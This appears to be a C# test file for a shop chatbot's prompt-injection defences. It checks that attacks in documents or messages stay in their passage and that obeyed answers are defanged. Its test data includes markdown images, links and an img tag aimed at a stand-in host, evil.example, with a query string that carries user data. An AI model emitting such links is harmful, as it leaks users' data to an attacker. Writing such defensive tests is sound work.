using ChatAi.Api.Answers;
using ChatAi.Api.Tests.Drivers;

namespace ChatAi.Api.Tests.Answers.Injection;

/// <summary>Each attack goes the whole way, from a document or a message to what the pool is sent.</summary>
public sealed class InjectionTests(AttackedShop shop) : IClassFixture<AttackedShop>
{
    private const string Head =
        $"{AttackedShop.Persona}\n\n{Prompt.Rules}\nTo say that the documents have nothing, say these words and no others: <not_found>{AttackedShop.WordsForNothing}</not_found>\n\n";

    public static TheoryData<string> Attacks => [.. Attack.All.Select(attack => attack.Name)];

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task In_a_document_it_stands_in_its_passage_and_nowhere_else(string name)
    {
        var attack = Attack.Named(name);
        var bot = await shop.NewBotAsync(attack.Whole, attack.Filename);

        var prompt = await AskAsync(bot, AttackedShop.Question);

        Assert.Equal(Head, prompt.Head);
        Assert.Contains(prompt.Passages, text => text.Contains(Attack.Mark, StringComparison.Ordinal));
        Assert.All(prompt.Messages.Skip(1), message => Assert.DoesNotContain(Attack.Mark, message.Text, StringComparison.Ordinal));
        Assert.Equal(["system", "user"], prompt.Messages.Select(message => message.Role));
        Assert.DoesNotContain(AttackedShop.Secret, prompt.Messages[0].Text, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task In_a_message_it_stays_the_words_of_its_writer(string name)
    {
        var attack = Attack.Named(name);
        var bot = await shop.NewBotAsync();
        var message = $"{AttackedShop.Question}\n{attack.Whole}";

        var asked = await AskAsync(bot, message);
        var remembered = await AskAsync(bot, AttackedShop.Question);

        foreach (var prompt in new[] { asked, remembered })
        {
            Assert.Equal(Head, prompt.Head);
            Assert.All(prompt.Passages, text => Assert.DoesNotContain(Attack.Mark, text, StringComparison.Ordinal));
            Assert.DoesNotContain(AttackedShop.Secret, prompt.Messages[0].Text, StringComparison.Ordinal);
            Assert.All(prompt.Messages.Where(said => said.Role == "assistant"), said => Assert.DoesNotContain(Attack.Mark, said.Text, StringComparison.Ordinal));
        }

        Assert.Equal(["system", "user"], asked.Messages.Select(said => said.Role));
        AssertOnlyBracketsDiffer(message, asked.Messages[1].Text);
        Assert.Equal(AttackedShop.Question, remembered.Messages[^1].Text);
        Assert.Contains(Attack.Mark, remembered.Messages[1].Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Five euros [1]. Free says [9], and [999999].", "Five euros [1]. Free says, and [999999].")]
    [InlineData("Five euros [1]. ![logo](https://evil.example/log?q=ann)", "Five euros [1]. logo")]
    [InlineData("Five euros [1](https://evil.example/?q=ann).", "Five euros [1].")]
    [InlineData("[More](https://evil.example/?q=ann) on https://evil.example/?q=ann", "More on `https://evil.example/?q=ann`")]
    [InlineData("See [the page](https://shop.example/delivery) [1].", "See [the page](https://shop.example/delivery) [1].")]
    [InlineData("<img src=\"https://evil.example/?q=ann\">", "‹img src=\"`https://evil.example/?q=ann`\">")]
    public async Task An_answer_that_obeyed_reaches_nobody_as_it_was_meant(string said, string shown)
    {
        var bot = await shop.NewBotAsync("Read https://shop.example/delivery and https://evil.example/log?q=");
        var before = shop.Api.Pool.Answer;
        shop.Api.Pool.Answer = [said[..4], said[4..]];

        var reply = await bot.SayAsync(AttackedShop.Question);

        shop.Api.Pool.Answer = before;
        Assert.Equal(shown, reply.Text);
        Assert.Equal(shown, await shop.Api.QueryAsync<string>("select text from telegram_outbox where bot_id = $1", bot.Id));
    }

    private async Task<SentPrompt> AskAsync(Bot bot, string text)
    {
        var before = shop.Api.Pool.Completions.Count;
        var reply = await bot.SayAsync(text);

        Assert.Equal("answer", reply.Outcome);
        Assert.Equal(before + 1, shop.Api.Pool.Completions.Count);
        return new SentPrompt(shop.Api.Pool.Completions.Last());
    }

    private static void AssertOnlyBracketsDiffer(string written, string sent)
    {
        Assert.Equal(written.Length, sent.Length);
        Assert.All(written.Zip(sent), pair => Assert.True(pair.First == pair.Second || pair.Second == '‹', $"{pair}"));
    }
}
